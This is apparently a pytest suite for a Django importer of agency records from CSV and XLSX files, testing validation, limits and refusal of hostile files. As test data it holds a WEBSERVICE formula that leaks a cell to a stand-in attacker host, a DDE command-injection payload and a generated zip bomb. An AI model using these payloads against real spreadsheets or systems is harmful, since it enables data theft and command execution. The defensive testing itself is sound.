"""Bulk import: csv/xlsx, row errors reported and skipped, re-import updates, --admit, hostile files."""

import csv
import io
import zipfile

import openpyxl
import pytest
from django.core.management import CommandError, call_command

from agencies.importer import ImportRefused, csv_safe, import_agencies
from agencies.models import Agency, AgencyService, Qualification
from bench.import_agencies import HEADER, REGIONS, rows, uscc, write_xlsx
from marketplace.audit import verify_chain
from marketplace.models import AuditEntry, Organisation

pytestmark = pytest.mark.django_db


def _csv(lines, header=HEADER) -> io.BytesIO:
    out = io.StringIO()
    w = csv.writer(out)
    w.writerow(header)
    for line in lines:
        w.writerow(line)
    return io.BytesIO(out.getvalue().encode("utf-8-sig"))


def _good(i, region="330482", services="ZR01;HB01"):
    return [f"机构{i}", uscc(i, region), "", region, "地址", "法人", "", "联系人", "0573", services, "简介",
            "", "", "", ""]


def test_xlsx_with_bad_rows_imports_the_good_ones(tmp_path):
    path = tmp_path / "r.xlsx"
    bad = write_xlsx(path, 60, 7)
    report = import_agencies(path, progress=False)
    assert report.total == 60
    assert report.skipped == bad == 8
    assert report.created == 52
    assert Agency.objects.count() == 52
    assert Agency.objects.filter(status="draft").count() == 52
    reasons = {(e.column, e.reason.split(":")[0]) for e in report.errors}
    assert ("uscc", "check") in reasons
    assert ("region_code", "行政区划代码不存在 / unknown region code 999999") in reasons
    assert any(e.column == "name" and "公式" in e.reason for e in report.errors)
    assert any(e.column == "legal_rep_id" for e in report.errors)
    assert all(e.row > 1 for e in report.errors)
    # entity type derived from the code when empty; services and qualifications created
    assert Agency.objects.get(uscc=uscc(11, REGIONS[11 % len(REGIONS)], "92")).entity_type == "个体工商户"
    assert AgencyService.objects.count() > 52
    assert Qualification.objects.count() > 0
    assert verify_chain() is None


def test_reimport_updates_by_uscc_and_admit(tmp_path):
    first = _csv([_good(1), _good(2)])
    import_agencies(first, filename="a.csv", progress=False)
    changed = _good(1, services="ZR01;CZ01")
    changed[0] = "机构一（更名）"
    report = import_agencies(_csv([changed, _good(3)]), filename="b.csv", admit=True, progress=False)
    assert (report.created, report.updated, report.admitted) == (1, 1, 2)
    a1 = Agency.objects.get(uscc=uscc(1, "330482"))
    assert a1.name == "机构一（更名）" and a1.status == "admitted" and a1.admitted_at
    assert set(a1.services.values_list("service_type_id", flat=True)) == {"ZR01", "HB01", "CZ01"}
    assert Agency.objects.get(uscc=uscc(2, "330482")).status == "draft"
    assert Organisation.objects.filter(kind="agency").count() == 3
    assert AuditEntry.objects.filter(action="agencies.admitted").count() == 2
    assert AuditEntry.objects.filter(action="agencies.imported").count() == 2
    assert verify_chain() is None


def test_dry_run_writes_nothing():
    report = import_agencies(_csv([_good(1), _good(2)]), filename="a.csv", dry_run=True, progress=False)
    assert report.created == 2 and report.dry_run
    assert not Agency.objects.exists()
    assert not AuditEntry.objects.filter(action__startswith="agencies.").exists()


def test_duplicate_in_file_and_blacklisted():
    import datetime as dt

    from agencies.models import Blacklist

    Blacklist.objects.create(uscc=uscc(5, "330482"), reason="x", starts_on=dt.date(2020, 1, 1),
                             ends_on=dt.date(2099, 1, 1))
    report = import_agencies(_csv([_good(1), _good(1), _good(5)]), filename="a.csv", progress=False)
    assert report.created == 1
    assert [(e.row, e.column) for e in report.errors] == [(3, "uscc"), (4, "uscc")]
    assert "duplicate" in report.errors[0].reason and "blacklisted" in report.errors[1].reason


def test_missing_columns_refused():
    with pytest.raises(ImportRefused, match="missing columns"):
        import_agencies(_csv([], header=["name", "uscc"]), filename="a.csv", progress=False)


def test_wrong_extension_refused():
    with pytest.raises(ImportRefused):
        import_agencies(io.BytesIO(b"x"), filename="a.exe", progress=False)


def test_size_limit(settings):
    settings.AGENCY_IMPORT_MAX_BYTES = 100
    with pytest.raises(ImportRefused, match="too large"):
        import_agencies(_csv([_good(1), _good(2)]), filename="a.csv", progress=False)


def test_too_many_rows_and_columns(settings):
    settings.AGENCY_IMPORT_MAX_ROWS = 2
    with pytest.raises(ImportRefused, match="too many rows"):
        import_agencies(_csv([_good(i) for i in range(1, 5)]), filename="a.csv", progress=False)
    assert not Agency.objects.exists()
    settings.AGENCY_IMPORT_MAX_ROWS = 100
    with pytest.raises(ImportRefused, match="too many columns"):
        import_agencies(_csv([_good(1) + ["x"] * 50]), filename="a.csv", progress=False)


def test_zip_bomb_refused_before_opening(tmp_path):
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/worksheets/sheet1.xml", b"\0" * (50 * 1024 * 1024))
    assert path.stat().st_size < 200_000
    with pytest.raises(ImportRefused, match="zip bomb"):
        import_agencies(path, progress=False)


def test_not_a_zip_refused(tmp_path):
    path = tmp_path / "fake.xlsx"
    path.write_bytes(b"%PDF-1.4 not a spreadsheet")
    with pytest.raises(ImportRefused, match="not a valid xlsx"):
        import_agencies(path, progress=False)


def test_formula_cells_never_evaluated(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(HEADER)
    good = _good(1)
    evil = _good(2)
    evil[4] = '=WEBSERVICE("http://evil.example/"&A2)'
    ws.append(good)
    ws.append(evil)
    path = tmp_path / "f.xlsx"
    wb.save(path)
    report = import_agencies(path, progress=False)
    assert report.created == 1
    assert [(e.row, e.column) for e in report.errors] == [(3, "address")]


def test_csv_injection_guard_on_export():
    assert csv_safe("=1+1") == "'=1+1"
    assert csv_safe("+86 573") == "'+86 573"
    assert csv_safe("@SUM(A1)") == "'@SUM(A1)"
    assert csv_safe("正常") == "正常"
    report = import_agencies(_csv([["=cmd|' /C calc'!A0", *_good(1)[1:]]]), filename="a.csv", progress=False)
    text = report.errors_csv()
    assert "=cmd" not in text.replace("'=cmd", "")


def test_gbk_csv_accepted():
    out = io.StringIO()
    w = csv.writer(out)
    w.writerow(HEADER)
    w.writerow(_good(1))
    report = import_agencies(io.BytesIO(out.getvalue().encode("gb18030")), filename="a.csv", progress=False)
    assert report.created == 1 and Agency.objects.get().name == "机构1"


def test_management_command(tmp_path, capsys):
    path = tmp_path / "r.xlsx"
    write_xlsx(path, 20, 0)
    call_command("import_agencies", str(path), "--admit", "--no-progress")
    assert "20 created" in capsys.readouterr().out
    assert Agency.objects.filter(status="admitted").count() == 20
    call_command("import_agencies", str(path), "--dry-run", "--no-progress")
    assert "20 updated" in capsys.readouterr().out
    bomb = tmp_path / "x.txt"
    bomb.write_text("x")
    with pytest.raises(CommandError):
        call_command("import_agencies", str(bomb), "--no-progress")


def test_admin_upload_view_operators_only(client, operator_user, regulator_user, tmp_path):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    path = tmp_path / "r.xlsx"
    write_xlsx(path, 5, 0)
    upload = SimpleUploadedFile("r.xlsx", path.read_bytes())
    url = reverse("agencies:import")
    client.force_login(regulator_user)
    assert client.post(url, {"file": upload}).status_code == 403
    client.force_login(operator_user)
    upload.seek(0)
    response = client.post(url, {"file": upload, "admit": "on"})
    assert response.status_code == 200
    assert Agency.objects.filter(status="admitted").count() == 5
    bad = SimpleUploadedFile("r.xlsx", b"not a zip")
    response = client.post(url, {"file": bad})
    assert "不是有效的 xlsx 文件" in response.content.decode()  # one language: no English side in Chinese mode
    assert "not a valid xlsx" not in response.content.decode()


def test_rows_generator_marks_bad_rows():
    flagged = [bad for _, bad in rows(20, 5)]
    assert flagged.count(True) == 4
